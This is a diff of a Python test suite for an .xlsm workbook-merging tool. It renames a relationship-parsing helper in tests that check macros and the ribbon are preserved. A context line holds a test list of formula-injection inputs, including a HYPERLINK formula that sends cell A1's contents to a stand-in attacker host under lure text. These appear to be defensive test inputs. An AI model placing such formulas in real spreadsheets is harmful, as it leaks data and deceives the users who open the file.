@@ -134,10 +134,10 @@ def test_clean_merge_keeps_macros_and_ribbon_and_writes_a_backup(city, folder, c
     with zipfile.ZipFile(io.BytesIO(city_bytes)) as before, zipfile.ZipFile(city) as after:
         assert after.read(xlsm.VBA_PROJECT_PART) == before.read(xlsm.VBA_PROJECT_PART)
         assert after.read(xlsm.CUSTOM_UI_PART) == before.read(xlsm.CUSTOM_UI_PART)
-        rels = xlsm._relationships(after.read(xlsm.PACKAGE_RELS_PART))
+        rels = xlsm.relationships(after.read(xlsm.PACKAGE_RELS_PART))
         assert any(r["Type"] == xlsm.CUSTOM_UI_REL_TYPE and r["Target"].lstrip("/") == xlsm.CUSTOM_UI_PART for r in rels)
         assert xlsm.MACRO_MAIN_CONTENT_TYPE in after.read(xlsm.CONTENT_TYPES_PART).decode()
-        wb_rels = xlsm._relationships(after.read("xl/_rels/workbook.xml.rels"))
+        wb_rels = xlsm.relationships(after.read("xl/_rels/workbook.xml.rels"))
         assert any(r["Type"] == xlsm.VBA_PROJECT_REL_TYPE for r in wb_rels)
     # the backup is the file as it was
     assert report.backup is not None and report.backup.read_bytes() == city_bytes
@@ -393,7 +393,7 @@ INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"点击领取补贴")', "+c
 def _sheet_part(path: Path, sheet: str) -> tuple[bytes, str]:
     with zipfile.ZipFile(path) as z:
         wb = ElementTree.fromstring(z.read("xl/workbook.xml"))
-        rels = {r["Id"]: r["Target"] for r in xlsm._relationships(z.read("xl/_rels/workbook.xml.rels"))}
+        rels = {r["Id"]: r["Target"] for r in xlsm.relationships(z.read("xl/_rels/workbook.xml.rels"))}
         rid = next(s.get(f"{{{xlsm._R_NS[1:-1]}}}id") for s in wb.iter(f"{{{MAIN_NS}}}sheet") if s.get("name") == sheet)
         target = rels[rid].lstrip("/")
         target = target if target.startswith("xl/") else "xl/" + target
@@ -546,7 +546,7 @@ def test_collect_after_refresh_keeps_the_generated_parts(city, folder, county_by
         names = z.namelist()
         assert sorted(n for n in names if n.startswith(("xl/charts/", "xl/drawings/")) and "_rels" not in n) == refreshed
         assert xlsm.VBA_PROJECT_PART in names and xlsm.CUSTOM_UI_PART in names
-        assert any(r["Type"] == xlsm.CUSTOM_UI_REL_TYPE for r in xlsm._relationships(z.read(xlsm.PACKAGE_RELS_PART)))
+        assert any(r["Type"] == xlsm.CUSTOM_UI_REL_TYPE for r in xlsm.relationships(z.read(xlsm.PACKAGE_RELS_PART)))
 
 
 def test_a_part_openpyxl_cannot_keep_is_reported(city, folder, county_bytes):
